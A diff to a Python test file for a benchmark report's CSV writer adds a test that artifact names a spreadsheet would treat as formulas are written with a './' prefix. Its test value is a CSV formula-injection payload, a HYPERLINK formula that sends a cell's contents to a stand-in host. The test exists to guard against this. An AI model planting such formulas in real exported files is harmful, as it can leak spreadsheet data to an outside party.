@@ -3,6 +3,7 @@
 import csv
 import dataclasses
 import json
+import os
 import re
 from pathlib import Path
 
@@ -108,6 +109,20 @@ def test_csv_one_line_per_row(report, tmp_path):
     assert int8["sha256"] == "cd" * 32  # which bytes each row measured
     skipped = next(r for r in records if r["target"] == "coreml")
     assert skipped["reasons"] == "Core ML runtime needs macOS" and skipped["p50_ms"] == ""
+
+
+def test_a_csv_name_a_spreadsheet_takes_for_a_formula_is_written_as_the_same_path(report, tmp_path):
+    """report.csv carried an artifact named '=HYPERLINK(...).onnx' as that formula, as
+    predict's CSV did a photo's: written ./=HYPERLINK(...).onnx, the same file relative to
+    --artifacts, and text to a spreadsheet. report.json keeps the name as it is."""
+    name = '=HYPERLINK("http://x.example/?"&A2,"see").onnx'
+    rows = [{**row, "name": name} if row["target"] == "onnx" else row
+            for row in report["artifacts"]]  # fmt: skip
+    write_csv(rows, tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(newline="") as handle:
+        names = [record["name"] for record in csv.DictReader(handle)]
+    assert names == [os.path.join(".", r["name"]) if r["name"] == name else r["name"] for r in rows]
+    assert Path(names[[r["name"] for r in rows].index(name)]) == Path(name)  # the same file
 
 
 def test_terminal_and_markdown_tables(report):
